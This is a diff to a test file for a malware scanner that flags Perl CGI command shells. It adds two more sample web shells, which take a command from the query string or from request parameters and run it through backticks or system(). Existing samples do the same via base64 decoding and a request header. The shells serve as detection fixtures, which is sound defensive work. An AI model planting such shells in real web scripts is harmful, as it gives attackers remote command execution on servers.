@@ -20,6 +20,8 @@ const SHELLS: [string, string][] = [
   ['a parameter wrapped in a decoder', `${CGI}use MIME::Base64;\nmy $c = decode_base64($q->param('c'));\nprint \`$c\`;\n`],
   ['a %Form field joined after a cd, in a write pipe', `${READ_PARSE}$Cmd = "cd /tmp; " . $Form{'cmd'};\nopen(P, "|$Cmd > /tmp/o 2>&1");\nclose(P);\n`],
   ['a field through three assignments', `${CGI}my $a = $q->param('c');\nmy $b = $a;\nmy $d = "$b 2>&1";\nmy $e = $d;\nsystem($e);\n`],
+  ['a hash the script fills from the query string by hand', `#!/usr/bin/perl\nmy %p = map { split /=/, $_, 2 } split /&/, $ENV{QUERY_STRING};\nprint "Content-type: text/plain\\n\\n";\nprint \`$p{c} 2>&1\`;\n`],
+  ['an array and a hash element given a parameter', `${CGI}my @a = ($q->param('c'));\nmy %h;\n$h{cmd} = $q->param('d');\nsystem($a[0]);\nprint \`$h{cmd}\`;\n`],
   ['a request header from the environment', `#!/usr/bin/perl\nprint "Content-type: text/plain\\n\\n";\nmy $m = $ENV{'REQUEST_METHOD'};\nsystem($ENV{HTTP_X_RUN});\n`],
 ];
 
@@ -44,7 +46,7 @@ describe('scan: Perl CGI command shells (session 39)', () => {
       assert.ok(r.findings.some((f) => f.rule === 'mamori:perl-cgi'), why(r));
     });
   }
-  it('ran every shell', () => assert.equal(SHELLS.length, 10));
+  it('ran every shell', () => assert.equal(SHELLS.length, 12));
   for (const [name, src] of BENIGN) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, '/usr/lib/cgi-bin/t.cgi');
